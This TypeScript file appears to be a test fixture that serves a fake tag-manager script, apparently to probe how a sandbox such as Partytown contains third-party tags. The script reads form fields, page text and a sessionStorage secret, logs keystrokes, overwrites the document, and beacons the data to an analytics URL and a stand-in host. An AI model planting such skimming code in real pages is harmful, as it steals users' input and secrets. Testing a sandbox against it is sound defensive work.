/** A fake tag manager that reports everything it receives and everything it can read from the page. */

/** Runs instead of the real container. */
function reportEverything(layer: string): void {
  const page = window as unknown as Record<string, unknown[]>;
  const send = (what: string, value: unknown): void => {
    const said = encodeURIComponent(`${what}=${JSON.stringify(value)}`);
    navigator.sendBeacon(`https://www.google-analytics.com/g/collect?${said}`);
  };
  const look = (what: string, read: () => unknown): void => {
    try {
      send(what, read());
    } catch (error) {
      send(what, String(error));
    }
  };
  const list = page[layer] ?? [];
  const hear = (event: unknown): void => {
    send(layer, event);
    look('field', () => document.querySelector('input')?.value);
    look('text', () => document.body.textContent);
    look('markup', () => document.body.innerHTML);
    look('referrer', () => document.referrer);
    look('session', () => sessionStorage.getItem('secret'));
  };
  list.forEach(hear);
  const push = list.push.bind(list);
  list.push = (...events: unknown[]): number => {
    events.forEach(hear);
    return push(...events);
  };
  // biome-ignore lint/suspicious/noDocumentCookie: tags set cookies in just this way.
  document.cookie = '_ga=GA1.1.1.1; path=/; max-age=600';
  document.addEventListener('input', (event) =>
    send('typed', (event.target as HTMLInputElement).value),
  );
  // On a page these would append or be ignored; from Partytown's frame they replace the page.
  for (const write of [
    () => document.write('<p>Written by a tag</p>'),
    () => document.writeln('<p>Written by a tag</p>'),
    () => document.open(),
    () => document.replaceChildren(),
    () => document.removeChild(document.documentElement),
  ])
    look('wrote', write);
  send('written', layer);
  fetch('https://elsewhere.example/collect').then(
    () => undefined,
    () => undefined,
  );
}

/** The script for a request of `gtm.js`. */
export function tagManager(address: URL): string {
  return `(${reportEverything})(${JSON.stringify(address.searchParams.get('l'))})`;
}
